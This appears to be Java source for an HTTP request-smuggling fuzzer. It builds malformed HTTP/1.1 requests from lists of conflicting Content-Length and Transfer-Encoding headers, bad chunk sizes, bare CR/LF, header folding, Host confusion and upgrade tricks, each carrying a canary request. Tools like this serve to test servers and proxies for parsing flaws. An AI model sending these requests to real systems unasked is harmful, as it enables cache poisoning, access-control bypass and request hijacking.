package dev.missent.attack.grammar;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import java.util.function.BiConsumer;
import java.util.random.RandomGenerator;

/** Hostile HTTP/1.1 requests: a plain one with one to three mutations, each of a kind that was an attack on some server once. */
public final class RequestGrammar {
    private static final List<String> LENGTHS = List.of("+%d", "-%d", "%d ", "0x%x", "%d, %d", "%d;", "%d.0", "", "0%d", "%d\0",
        "%d\u000b", " %d",
        "99999999999999999999%d", "%d,%d,1", "\"%d\"", "%d a");
    private static final List<String> CODINGS = List.of("chunked, identity", "identity", "xchunked", "chunked;q=1", "\tchunked",
        "Chunked",
        "chunked,chunked", "gzip, chunked", "chunked\u000b", "\"chunked\"", "chunked\0", "\r\n chunked", "chunk", "chunked, ",
        ",chunked", "chunked x");
    private static final List<String> CODING_NAMES = List.of("Transfer-Encoding : ", "Transfer_Encoding: ",
        "Transfer-Encoding\t: ", " Transfer-Encoding: ",
        "Transfer-Encoding:\u000b", "Transfer\u00adEncoding: ", "transfer-encoding:", "X: y\nTransfer-Encoding: ",
        "X: y\rTransfer-Encoding: ");
    private static final List<String> SIZES = List.of("5;a=b", "5;\"", "5 ;x", "5 ", "0x5", "005", "+5", "5\r", "-5",
        "ffffffffffffffff5", "5;a=\"\r\n\"",
        "5;\n", "5\t", "", "g", "5;" + "a".repeat(5000));
    private static final List<String> ENDS = List.of("\n", "\r", "", "\r\n\r\n", "xx", "\r\nX", "\n\r\n");
    private static final List<String> TRAILERS = List.of("Content-Length: 3", "Host: canary.example",
        "Transfer-Encoding: chunked", "Client-Cert: :AAAA:",
        "X_Forwarded_For: 10.0.0.1", "X: a\rb", "X : y", "Trailing", "X:\r\n folded");
    private static final List<String> NOMINATED = List.of("Content-Length", "Transfer-Encoding", "Host", "X-Forwarded-Proto",
        "Client-Cert", "close, Host",
        "keep-alive, Content-Length", "TE", "Upgrade, HTTP2-Settings", ", ,", "close", "@");
    private static final List<String> HOSTS = List.of("canary.example", "%s:80@canary.example", "%s, canary.example", "%s/",
        "%s:", "%s:65536", "%s canary.example",
        "user@%s", "[::1]", "%s#", "%s?x", "%s\\", "_%s", "%s..", "");
    private static final List<String> TARGETS = List.of("/t/%d HTTP/1.1 x", "/t/%d#f", "/t/%d\u00e9", "/t/%d%%0d%%0aX:%%20y", "*",
        "//canary.example/t/%d",
        "http://canary.example/t/%d", "http://user@HOST/t/%d", "https://HOST/t/%d", "HOST:80", "/t/%d\u007f", "/t/%d\tx", "t/%d",
        "http:///t/%d", "http://HOST",
        "/t/%d?a=b c", "/../t/%d", "/t/%d%%00");
    private static final List<String> VERSIONS = List.of("HTTP/1.0", "HTTP/1.2", "HTTP/2.0", "http/1.1", "HTTP/1.1 ", " HTTP/1.1",
        "HTTP/0.9", "HTTP/1.10", "", "HTTP/11");
    private static final List<String> METHODS = List.of("HEAD", "PUT", "OPTIONS", "DELETE", "TRACE", "CONNECT", "PATCH", "get",
        "M-SEARCH", "GET\u000b", "PRI", "G(T", "POST");
    private static final List<String> UNDERSCORES = List.of("Client_Cert: :AAAA:", "X_Forwarded_For: 10.0.0.1",
        "Content_Length: 5", "X_Forwarded_Proto: http", "Forwarded_: x",
        "X_Any: y", "Ho_st: x");
    private static final List<String> UPGRADES = List.of("websocket", "h2c", "HTTP/2.0", "websocket, h2c", "TLS/1.0");

    private static final Map<String, BiConsumer<Draft, RandomGenerator>> MUTATIONS = mutations();

    private RequestGrammar() {}

    private static Map<String, BiConsumer<Draft, RandomGenerator>> mutations() {
        var all = new TreeMap<String, BiConsumer<Draft, RandomGenerator>>();
        all.put("length", (draft, random) -> {
            draft.post(draft.canary());
            int length = draft.body.length();
            draft.line("Content-Length: " + of(LENGTHS, random).formatted(length, length));
        });
        all.put("two lengths", (draft, random) -> {
            draft.post("12345" + draft.canary());
            draft.line("Content-Length: 5")
                .line((random.nextBoolean() ? "Content-Length: " : "content-length:") + draft.body.length());
        });
        all.put("short length", (draft, random) -> draft.post("12345" + draft.canary()).line("Content-Length: 5"));
        all.put("length and chunks", (draft, random) -> {
            draft.post("0\r\n\r\n" + draft.canary()).line("Content-Length: " + draft.body.length());
            draft.lines.add(1 + random.nextInt(draft.lines.size()), "Transfer-Encoding: chunked");
        });
        all.put("coding",
            (draft, random) -> draft.post(chunks() + draft.canary()).line("Transfer-Encoding: " + of(CODINGS, random)));
        all.put("coding's name", (draft, random) -> {
            draft.post("0\r\n\r\n" + draft.canary()).line(of(CODING_NAMES, random) + "chunked");
            draft.line("Content-Length: " + draft.body.length());
        });
        all.put("two codings", (draft, random) -> draft.post(chunks() + draft.canary()).line("Transfer-Encoding: chunked")
            .line("Transfer-Encoding: " + of(CODINGS, random)));
        all.put("chunk size", (draft, random) -> draft.post(of(SIZES, random) + "\r\n12345\r\n0\r\n\r\n" + draft.canary())
            .line("Transfer-Encoding: chunked"));
        all.put("chunk's end", (draft, random) -> draft.post("5\r\n12345" + of(ENDS, random) + "0\r\n\r\n" + draft.canary())
            .line("Transfer-Encoding: chunked"));
        all.put("last chunk",
            (draft, random) -> draft.post("5\r\n12345\r\n" + of(List.of("00", "0;x", "0 ", "-0", "0\n"), random) + "\r\n\r\n"
                + draft.canary()).line("Transfer-Encoding: chunked"));
        all.put("trailer",
            (draft, random) -> draft.post("5\r\n12345\r\n0\r\n" + of(TRAILERS, random) + "\r\n\r\n" + draft.canary())
                .line("Transfer-Encoding: chunked").line("Trailer: Content-Length"));
        all.put("bare LF", (draft, random) -> draft.line("X-A: b\nX-B: c\n\n" + draft.canary()));
        all.put("bare CR", (draft, random) -> draft.line("X-A: b\r\rX-B: c\r" + draft.canary().replace("\n", "")));
        all.put("fold", (draft, random) -> draft.line("X-A: b\r\n " + of(List.of("Content-Length: 5", "c", "", "\t"), random)));
        all.put("control character", (draft, random) -> draft.line("X-A: " + (char) random.nextInt(32) + "b"));
        all.put("no colon",
            (draft, random) -> draft.line(of(List.of("Content-Length 5", "X", ": y", "X Y: z", "X\u00e9: y"), random)));
        all.put("host", (draft, random) -> draft.lines.set(0, "Host: " + of(HOSTS, random).formatted(draft.host)));
        all.put("two hosts", (draft, random) -> draft.line("Host: " + of(HOSTS, random).formatted(draft.host)));
        all.put("no host", (draft, random) -> draft.lines.set(0, "X-Host: " + draft.host));
        all.put("target",
            (draft, random) -> draft.target = of(TARGETS, random).formatted(draft.number).replace("HOST", draft.host));
        all.put("version", (draft, random) -> draft.version = of(VERSIONS, random));
        all.put("method", (draft, random) -> draft.method = of(METHODS, random));
        all.put("nomination", (draft, random) -> draft.line("Connection: " + of(NOMINATED, random)));
        all.put("underscore", (draft, random) -> draft.line(of(UNDERSCORES, random)));
        all.put("upgrade", (draft, random) -> draft.line("Connection: Upgrade").line("Upgrade: " + of(UPGRADES, random))
            .line("Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==").line("Sec-WebSocket-Version: 13"));
        all.put("upgrade with a body",
            (draft, random) -> draft.post(draft.canary()).line("Connection: Upgrade").line("Upgrade: websocket")
                .line("Content-Length: " + draft.body.length()));
        all.put("body of a GET", (draft, random) -> {
            draft.body = draft.canary();
            draft.line("Content-Length: " + draft.body.length());
        });
        all.put("expectation",
            (draft, random) -> draft.post(draft.canary())
                .line("Expect: " + of(List.of("100-continue", "200-ok", "100-continue, x"), random))
                .line("Content-Length: " + draft.body.length()));
        all.put("before the line",
            (draft, random) -> draft.before = of(List.of("\r\n", "\n", " ", "\r\n\r\n\r\n", "\r", "\0"), random));
        return all;
    }

    private static String chunks() {
        return "5\r\n12345\r\n0\r\n\r\n";
    }

    private static String of(List<String> choices, RandomGenerator random) {
        return choices.get(random.nextInt(choices.size()));
    }

    /** The names of all mutations. */
    public static List<String> kinds() {
        return List.copyOf(MUTATIONS.keySet());
    }

    /** The request of this number: its first mutation goes through all kinds in turn, up to two more come by chance. */
    public static HostileRequest request(int number, String host, RandomGenerator random) {
        var draft = new Draft(number, host);
        var kinds = new ArrayList<String>();
        kinds.add(kinds().get(number % MUTATIONS.size()));
        while (kinds.size() < 3 && random.nextInt(3) == 0) {
            kinds.add(of(kinds(), random));
        }
        kinds.forEach(kind -> Objects.requireNonNull(MUTATIONS.get(kind)).accept(draft, random));
        return new HostileRequest(number, String.join(" + ", kinds), draft.method, draft.text());
    }
}
